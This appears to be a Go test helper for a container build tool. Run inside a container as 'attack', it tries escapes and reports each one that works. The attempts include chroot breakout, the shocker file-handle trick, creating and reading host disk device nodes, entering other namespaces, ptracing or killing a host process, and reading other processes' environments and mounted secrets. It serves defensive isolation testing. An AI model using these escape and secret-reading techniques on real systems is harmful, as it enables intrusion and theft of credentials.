package containerfile

import (
	"encoding/binary"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// The test's own program is the attacker, too: RUN steps start it as "attack", with
// what it is after as arguments. It prints a line for each way that led there.
func init() {
	if filepath.Base(os.Args[0]) != "attack" {
		return
	}
	for _, argument := range os.Args[1:] {
		what, value, _ := strings.Cut(argument, "=")
		attacks[what](value)
	}
	os.Exit(0)
}

var attacks = map[string]func(value string){
	"file": attackFile, "process": attackProcess, "secret": attackSecret, "loopback": attackLoopback, "memory": attackMemory,
	"owned": makeOwned,
}

func escaped(how string, arguments ...any) { fmt.Printf("ESCAPED "+how+"\n", arguments...) }

// attackFile looks for a file of the host, and writes one beside it.
func attackFile(path string) {
	try := func(how, root string) {
		if data, err := os.ReadFile(root + path); err == nil && strings.Contains(string(data), "canary") {
			escaped("%s: read %s", how, path)
		}
		if os.WriteFile(root+path+".written", nil, 0o600) == nil {
			escaped("%s: wrote beside %s", how, path)
		}
	}
	// The writes are looked for outside: inside, the folder may be there and not be the host's.
	quiet := func(root string) {
		if data, err := os.ReadFile(root + path); err == nil && strings.Contains(string(data), "canary") {
			try("by "+root, root)
		}
	}
	quiet("")
	links, _ := filepath.Glob("/proc/[0-9]*/root")
	cwds, _ := filepath.Glob("/proc/[0-9]*/cwd")
	fds, _ := filepath.Glob("/proc/[0-9]*/fd/*")
	for _, link := range append(append(links, cwds...), fds...) {
		quiet(link)
		quiet(link + strings.Repeat("/..", 20))
	}
	attackDevices(path)
	attackHandle(path)
	attackNamespaces(path)
	// chroot without leaving the working directory: https://filippo.io/escaping-a-chroot-jail-slash-1/
	if root, err := os.Open("/"); err == nil {
		os.Mkdir("/jail", 0o755)
		if unix.Chroot("/jail") == nil {
			root.Chdir()
			for range 64 {
				os.Chdir("..")
			}
			if unix.Chroot(".") == nil {
				quiet("")
			}
		}
		os.Remove("/jail")
	}
}

// attackDevices opens the disks of the machine.
func attackDevices(path string) {
	var root unix.Stat_t
	unix.Stat("/", &root)
	os.MkdirAll("/tmp/dev", 0o755)
	for _, at := range []string{"/proc/self/mountinfo", "/proc/1/mountinfo"} {
		mounts, _ := os.ReadFile(at)
		for i, line := range strings.Split(string(mounts), "\n") {
			fields := strings.Fields(line)
			if len(fields) < 3 {
				continue
			}
			major, minor, _ := strings.Cut(fields[2], ":")
			ma, _ := strconv.Atoi(major)
			mi, _ := strconv.Atoi(minor)
			node := fmt.Sprintf("/tmp/dev/%d", i)
			if ma == 0 || unix.Mknod(node, unix.S_IFBLK|0o600, int(unix.Mkdev(uint32(ma), uint32(mi)))) != nil {
				continue
			}
			if f, err := os.Open(node); err == nil {
				if n, _ := f.Read(make([]byte, 512)); n > 0 {
					escaped("made and read the disk %s", fields[2])
				}
				f.Close()
			}
		}
	}
	os.RemoveAll("/tmp/dev")
	filepath.Walk("/dev", func(path string, info os.FileInfo, err error) error {
		if err == nil && info.Mode()&os.ModeDevice != 0 && info.Mode()&os.ModeCharDevice == 0 {
			if f, err := os.Open(path); err == nil {
				if n, _ := f.Read(make([]byte, 512)); n > 0 {
					escaped("read the disk %s", path)
				}
				f.Close()
			}
		}
		return nil
	})
}

// attackHandle opens the root of a file system by its inode: https://github.com/gabrtv/shocker
func attackHandle(path string) {
	for _, at := range []string{"/etc/hosts", "/etc/resolv.conf", "/etc/hostname", "/"} {
		mount, err := unix.Open(at, unix.O_RDONLY, 0)
		if err != nil {
			continue
		}
		handle := make([]byte, 8)
		binary.NativeEndian.PutUint32(handle, 2) // inode 2 is the root of ext4
		if fd, err := unix.OpenByHandleAt(mount, unix.NewFileHandle(1, handle), unix.O_RDONLY); err == nil {
			escaped("opened the root behind %s by its handle", at)
			unix.Close(fd)
		}
		unix.Close(mount)
	}
}

// attackNamespaces enters those of others, and mounts.
func attackNamespaces(path string) {
	namespaces, _ := filepath.Glob("/proc/[0-9]*/ns/mnt")
	mine, _ := os.Readlink("/proc/self/ns/mnt")
	for _, link := range namespaces {
		if its, _ := os.Readlink(link); its == "" || its == mine {
			continue
		}
		if f, err := os.Open(link); err == nil {
			if unix.Setns(int(f.Fd()), unix.CLONE_NEWNS) == nil {
				escaped("entered %s", link)
			}
			f.Close()
		}
	}
	if unix.Mount("tmpfs", "/mnt", "tmpfs", 0, "") == nil {
		escaped("mounted")
	}
}

// attackProcess sends signals to a process of the host, under every number that it may
// have here, and looks into it.
func attackProcess(value string) {
	pid, _ := strconv.Atoi(value)
	all, _ := filepath.Glob("/proc/[0-9]*/cmdline")
	for _, path := range all {
		if line, _ := os.ReadFile(path); strings.Contains(string(line), "sleep\x0086") {
			escaped("sees the canary process at %s", path)
		}
	}
	if err := unix.Kill(pid, 0); err == nil && pid > 1000 {
		escaped("may kill %d", pid)
		unix.Kill(pid, unix.SIGKILL)
	}
	if err := unix.PtraceAttach(pid); err == nil {
		escaped("traces %d", pid)
	}
	if f, err := os.Open(fmt.Sprintf("/proc/%d/mem", pid)); err == nil && pid > 1000 {
		escaped("opened the memory of %d", pid)
		f.Close()
	}
}

// attackSecret looks for a text in the environment of every process, in its own, and in
// what is mounted for secrets.
func attackSecret(text string) {
	environs, _ := filepath.Glob("/proc/[0-9]*/environ")
	tasks, _ := filepath.Glob("/proc/[0-9]*/task/*/environ")
	lines, _ := filepath.Glob("/proc/[0-9]*/cmdline")
	secrets, _ := filepath.Glob("/run/secrets/*")
	for _, path := range append(append(append(environs, tasks...), lines...), secrets...) {
		data, _ := os.ReadFile(path)
		// Its own arguments have the text in them, after "secret=".
		if strings.Contains(strings.ReplaceAll(string(data), "secret="+text, ""), text) {
			escaped("read the secret in %s", path)
		}
	}
	if agent := os.Getenv("SSH_AUTH_SOCK"); agent != "" {
		escaped("reaches the agent %s", agent)
	}
}

// attackLoopback talks to a port of the host's loopback, and to an abstract socket of
// the same number.
func attackLoopback(port string) {
	hosts := []string{"127.0.0.1", "127.1.2.3", "[::1]", "0.0.0.0", "localhost", "10.0.2.2", "10.0.2.3", "169.254.1.1", "169.254.1.2", "host.containers.internal", "host.docker.internal", "172.17.0.1"}
	for _, host := range hosts {
		if c, err := net.DialTimeout("tcp", host+":"+port, 2*time.Second); err == nil {
			c.SetDeadline(time.Now().Add(2 * time.Second))
			fmt.Fprint(c, "GET / HTTP/1.0\r\n\r\n")
			answer := make([]byte, 1000)
			n, _ := c.Read(answer)
			if n > 0 {
				escaped("reached %s:%s: %q", host, port, answer[:n])
			}
			c.Close()
		}
	}
	if c, err := net.Dial("unix", "@canary-"+port); err == nil {
		escaped("reached the abstract socket")
		c.Close()
	}
}

// attackMemory looks for shared memory of the host: POSIX's and System V's.
func attackMemory(name string) {
	if data, err := os.ReadFile("/dev/shm/" + name); err == nil {
		escaped("read shared memory: %s", data)
	}
	if table, _ := os.ReadFile("/proc/sysvipc/shm"); strings.Count(string(table), "\n") > 1 {
		escaped("sees shared memory of others")
	}
}
